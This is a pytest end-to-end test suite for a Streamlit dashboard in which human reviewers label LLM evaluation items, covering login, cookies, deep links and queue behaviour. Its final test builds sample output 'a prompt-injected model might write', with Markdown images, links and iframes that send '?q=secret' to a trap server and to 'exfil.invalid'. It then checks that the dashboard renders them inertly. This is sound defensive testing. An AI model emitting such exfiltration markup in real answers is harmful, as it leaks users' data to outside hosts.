"""End to end in a real headless Chromium: two reviewers, no item shown to both, labels in the store.

Streamlit is started with ``streamlit run`` on a free loopback port and polled at ``/_stcore/health``;
Playwright drives Debian's ``/usr/bin/chromium`` (never ``playwright install``).
"""

from __future__ import annotations

import os
import re
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from dashboard_helpers import (
    PASSWORDS,
    conversation_run,
    fill_login,
    free_port,
    run_pair,
    sample_items,
    served,
    settle,
)

from experiments.baseline import compare
from experiments.record import write_run
from review import ReviewStore
from review.fill import escalation_items

pytestmark = pytest.mark.slow

APP = Path(__file__).resolve().parents[2] / "dashboard" / "app.py"


@pytest.fixture
def server(tmp_path: Path, users_file: Path) -> Iterator[dict]:
    db = tmp_path / "e2e.sqlite"
    store = ReviewStore(db)
    store.add_items(sample_items(6))
    store.close()
    port = free_port()
    results = tmp_path / "results"  # empty unless a test writes run files (the Runs page reads it per run)
    env = {
        **os.environ,
        "EVALHARNESS_REVIEW_DB": str(db),
        "EVALHARNESS_USERS": str(users_file),
        "EVALHARNESS_RESULTS": str(results),
    }
    cmd = [
        sys.executable, "-m", "streamlit", "run", str(APP), "--server.headless", "true",
        "--browser.gatherUsageStats", "false", "--server.address", "127.0.0.1", "--server.port", str(port),
        "--server.fileWatcherType", "none",
    ]  # fmt: skip
    with served(cmd, env, tmp_path, port) as url:
        yield {"url": url, "db": db, "results": results}


def _login(page, url: str, name: str) -> None:
    fill_login(page, url, name)
    page.get_by_role("heading", name="Review").wait_for(timeout=30_000)


ITEM_HEADING = re.compile(r"Item (\d+) ·")


def _current_item(page) -> int:
    heading = page.get_by_role("heading", name=ITEM_HEADING)
    heading.wait_for(timeout=30_000)
    match = ITEM_HEADING.search(heading.inner_text())
    assert match, heading.inner_text()
    return int(match.group(1))


def _press_and_wait(page, key: str, item: int) -> None:
    """Press a shortcut key and wait for the flash that says ``item`` was saved."""
    saved = page.get_by_text(f"Saved item {item}.")
    settle(page)
    page.keyboard.press(key)
    saved.wait_for(timeout=30_000)


def _next_item(page) -> int | None:
    """After a submit: the next item's id, or None when the queue ran dry."""
    settle(page)
    if page.get_by_role("button", name=re.compile("Claim next item")).count():
        return None
    return _current_item(page)


def test_two_reviewers_never_see_the_same_item(server: dict, browser) -> None:
    url = server["url"]
    pages = {}
    for name in ("bob", "carol"):
        context = browser.new_context()
        pages[name] = context.new_page()
        _login(pages[name], url, name)
        pages[name].get_by_role("button", name=re.compile("Claim next item")).click()

    shown: dict[str, list[int]] = {"bob": [], "carol": []}
    current = {name: _current_item(page) for name, page in pages.items()}
    score = {"bob": "4", "carol": "2"}
    while any(v is not None for v in current.values()):
        for name, page in pages.items():
            item = current[name]
            if item is None:
                continue
            shown[name].append(item)
            _press_and_wait(page, score[name], item)  # the quick-label keyboard shortcut submits the score
            current[name] = _next_item(page)

    assert not set(shown["bob"]) & set(shown["carol"]), shown
    assert sorted(shown["bob"] + shown["carol"]) == [1, 2, 3, 4, 5, 6]
    assert shown["bob"] and shown["carol"]

    store = ReviewStore(server["db"])
    labels = {(r.item_id, r.reviewer, r.score) for r in store.labels()}
    store.close()
    expected = {(i, "bob", 4.0) for i in shown["bob"]} | {(i, "carol", 2.0) for i in shown["carol"]}
    assert labels == expected


def test_visitor_sees_only_the_login(server: dict, browser) -> None:
    page = browser.new_context().new_page()
    for path in ("", "/review", "/queues", "/calibration"):
        page.goto(server["url"] + path)
        page.get_by_text("Log in to review.").wait_for(timeout=30_000)
        page.get_by_role("button", name="Log in").wait_for(timeout=30_000)  # the form renders after the text
        body = page.locator("body").inner_text()
        assert "Claim next item" not in body and "question 0" not in body and "Queues" not in body
        assert page.get_by_role("button", name="Log in").count() == 1
    assert page.get_by_test_id("stSidebarNav").count() == 0


def test_claim_and_login_survive_reload(server: dict, browser) -> None:
    page = browser.new_context().new_page()
    _login(page, server["url"], "bob")
    page.get_by_role("button", name=re.compile("Claim next item")).click()
    before = _current_item(page)
    settle(page)
    page.reload()  # the signed login cookie logs bob back in: no login form, the same item
    assert _current_item(page) == before
    assert page.get_by_role("button", name="Log in").count() == 0


def test_runs_page_shows_the_regressed_case(server: dict, browser) -> None:
    base, new = run_pair()
    write_run(base, server["results"] / "run-base.json")
    write_run(new, server["results"] / "run-new.json")
    info = new.suites[0].scorers[0]
    expected = compare(new.suites[0].cases, base.suites[0], info, run_id="run-base", source="", max_drop=0.5)
    page = browser.new_context().new_page()
    _login(page, server["url"], "bob")
    page.get_by_test_id("stSidebarNav").get_by_role("link", name="Runs").click()
    page.get_by_role("heading", name="Runs").wait_for(timeout=30_000)
    page.get_by_text("case q-drop · regressed · Δ -3.00").wait_for(timeout=30_000)
    settle(page)
    body = page.locator("body").inner_text()
    assert body.index("case q-drop") < body.index("case q-gain")  # regressions first
    # The table is drawn on a canvas; its cells are in the grid's accessible table (raw values).
    grid = page.get_by_test_id("stDataFrame").locator("table[role=grid]")
    grid.locator("th", has_text="Δ").first.wait_for(state="attached", timeout=30_000)
    headers = grid.locator("th").all_text_contents()
    first_row = grid.locator("tbody tr").first.locator("td").all_text_contents()
    assert first_row[headers.index("scorer")] == "geval:Correctness"
    assert float(first_row[headers.index("Δ")]) == pytest.approx(expected.mean_diff)
    assert expected.mean_diff == pytest.approx(-1 / 3)


def test_reviewer_labels_one_turn_of_a_conversation(server: dict, browser) -> None:
    store = ReviewStore(server["db"])
    [conv] = [it for it in escalation_items(conversation_run()) if it.criterion == "turn relevancy"]
    store.add_items([conv])  # item 7, claimed first (priority 3 over the sample items' 0)
    store.close()
    page = browser.new_context().new_page()
    _login(page, server["url"], "bob")
    page.get_by_role("button", name=re.compile("Claim next item")).click()
    assert _current_item(page) == 7
    page.get_by_text("Turn 3 · assistant · failing turn").wait_for(timeout=30_000)
    settle(page)
    assert page.get_by_test_id("stChatMessage").count() == 4
    assert page.get_by_text("Our opening hours are 9 to 5.").count() == 1
    page.get_by_role("radiogroup", name="Turn").get_by_text("Turn 3 · assistant", exact=True).click()
    settle(page)
    page.get_by_role("radiogroup", name="Score").nth(1).get_by_text("1", exact=True).click()
    settle(page)
    page.get_by_role("textbox", name="Note on this turn").fill("answers about opening hours")
    page.get_by_role("button", name="Save turn label").click()
    page.get_by_text("Saved your label of turn 3 of item 7.").wait_for(timeout=30_000)
    settle(page)
    assert _current_item(page) == 7  # still held: the whole conversation is still to label, or Done

    store = ReviewStore(server["db"])
    got = [(r.item_id, r.reviewer, r.turn, r.score, r.note) for r in store.labels()]
    store.close()
    assert got == [(7, "bob", 3, 1.0, "answers about opening hours")]


def _no_page_not_found(page) -> None:
    settle(page)
    assert page.get_by_text("Page not found").count() == 0


def test_deep_links_work_through_the_login_and_after_a_refresh(server: dict, browser) -> None:
    url = server["url"]
    context = browser.new_context()
    page = context.new_page()
    page.goto(url + "/calibration")  # a link a colleague sent, opened before logging in
    page.get_by_text("Log in to review.").wait_for(timeout=30_000)
    _no_page_not_found(page)
    page.get_by_role("textbox", name="User name").fill("bob")
    page.get_by_role("textbox", name="Password").fill(PASSWORDS["bob"])
    page.get_by_role("button", name="Log in").click()
    page.get_by_role("heading", name="Calibration").wait_for(timeout=30_000)  # where the link pointed
    _no_page_not_found(page)
    assert page.url.rstrip("/").endswith("/calibration")

    page.goto(url + "/runs")  # a new page load: the remembered login opens the page directly
    page.get_by_role("heading", name="Runs").wait_for(timeout=30_000)
    _no_page_not_found(page)
    page.reload()
    page.get_by_role("heading", name="Runs").wait_for(timeout=30_000)
    [cookie] = [c for c in context.cookies() if c["name"] == "evalharness_login"]
    assert cookie["sameSite"] == "Strict"
    assert cookie["expires"] - time.time() == pytest.approx(8 * 3600, abs=300)  # EVALHARNESS_LOGIN_TTL default

    page.get_by_role("button", name="Log out").click()
    page.get_by_text("Log in to review.").wait_for(timeout=30_000)
    settle(page)
    page.goto(url + "/calibration")  # logged out: the cookie no longer logs anyone in
    page.get_by_text("Log in to review.").wait_for(timeout=30_000)
    assert page.get_by_role("heading", name="Calibration").count() == 0


def test_reviewer_deep_link_to_an_admin_page_opens_review(server: dict, browser) -> None:
    page = browser.new_context().new_page()
    page.goto(server["url"] + "/queues")
    page.get_by_role("textbox", name="User name").fill("bob")
    page.get_by_role("textbox", name="Password").fill(PASSWORDS["bob"])
    page.get_by_role("button", name="Log in").click()
    page.get_by_role("heading", name="Review").wait_for(timeout=30_000)
    settle(page)
    assert "Queues" not in page.locator("body").inner_text()


def test_no_deploy_button(server: dict, browser) -> None:
    page = browser.new_context().new_page()
    _login(page, server["url"], "bob")
    settle(page)
    assert page.get_by_test_id("stAppDeployButton").count() == 0
    assert page.get_by_role("button", name="Deploy").count() == 0


@pytest.fixture
def trap() -> Iterator[dict]:
    """A loopback HTTP server on another port that records every request: where an exfiltration would land."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("content-type", "image/png")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    srv = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=srv.serve_forever, daemon=True)
    thread.start()
    try:
        yield {"url": f"http://127.0.0.1:{srv.server_address[1]}", "hits": hits}
    finally:
        srv.shutdown()
        srv.server_close()
        thread.join(5)


def _hostile(trap_url: str, where: str) -> str:
    """Text a prompt-injected model might write: Markdown images and links, raw HTML, directives, LaTeX."""
    return (
        f"Answer for {where}. ![leak]({trap_url}/md-image-{where}.png?q=secret) "
        f"![x](https://exfil.invalid/{where}?q=secret) <img src=\"{trap_url}/html-img-{where}.png\"> "
        f"[click me]({trap_url}/link-{where}) <{trap_url}/autolink-{where}> "
        f"<iframe src=\"{trap_url}/iframe-{where}\"></iframe> :material/warning: $x^2$ **bold**"
    )


def test_hostile_markdown_makes_no_request_beyond_the_dashboard(server: dict, browser, trap: dict) -> None:
    from review import JudgeView, NewItem

    t = trap["url"]

    def item(queue: str, overlap: int) -> NewItem:
        return NewItem(
            queue=queue,
            source_id=f"hostile-{queue}",
            input=_hostile(t, "input"),
            output=_hostile(t, "output"),
            context=_hostile(t, "context"),
            expected=_hostile(t, "expected"),
            criterion=f"quality ![c]({t}/criterion.png)",
            scale=(1, 5),
            categories=(f"good ![g]({t}/category.png)", "bad"),
            judge_score=2.0,
            judges=(JudgeView(_hostile(t, "model"), 2.0, {"1": 0.2, "2": 0.8}, _hostile(t, "reasoning")),),
            reason=_hostile(t, "reason"),
            priority=10.0,
            overlap=overlap,
        )

    store = ReviewStore(server["db"])
    store.add_items([item("escalation", 1), item("calibration", 2)])
    # A disagreement for the Calibration page, which bob sees because he labelled the item (blind calibration).
    for who, score in (("carol", 1.0), ("bob", 5.0)):
        lease = store.claim_next(who, queue="calibration")
        assert lease is not None
        store.submit(lease, score=score, category="bad", note=_hostile(t, f"note-{who}"))
    store.close()
    base, new = run_pair()
    write_run(base, server["results"] / "run-base.json")
    write_run(new, server["results"] / "run-new.json")

    context = browser.new_context()
    requested: list[str] = []
    context.on("request", lambda request: requested.append(request.url))
    page = context.new_page()
    _login(page, server["url"], "bob")
    page.get_by_role("button", name=re.compile("Claim next item")).click()
    _current_item(page)
    for label in ("Context", "Expected"):
        page.get_by_text(label, exact=True).click()
    settle(page)
    body = page.locator("body").inner_text()
    assert "Answer for output." in body and "Answer for reasoning." in body and "Answer for context." in body
    assert "![leak](" in body  # shown as the characters the model wrote
    page.get_by_test_id("stSidebarNav").get_by_role("link", name="Calibration").click()
    page.get_by_role("heading", name="Calibration").wait_for(timeout=30_000)
    settle(page)
    page.get_by_text(re.compile(r"^Item \d+: gap")).first.click()
    settle(page)
    assert "Answer for input." in page.locator("body").inner_text()
    page.get_by_test_id("stSidebarNav").get_by_role("link", name="Runs").click()
    page.get_by_text("case q-drop · regressed · Δ -3.00").wait_for(timeout=30_000)
    settle(page)
    page.wait_for_timeout(1000)

    own = server["url"]
    foreign = [u for u in requested if not (u.startswith((own + "/", "data:", "blob:")) or u == own)]
    assert foreign == [], foreign
    assert trap["hits"] == []
    assert page.locator(f"img[src^='{t}'], iframe[src^='{t}'], img[src*='exfil.invalid']").count() == 0
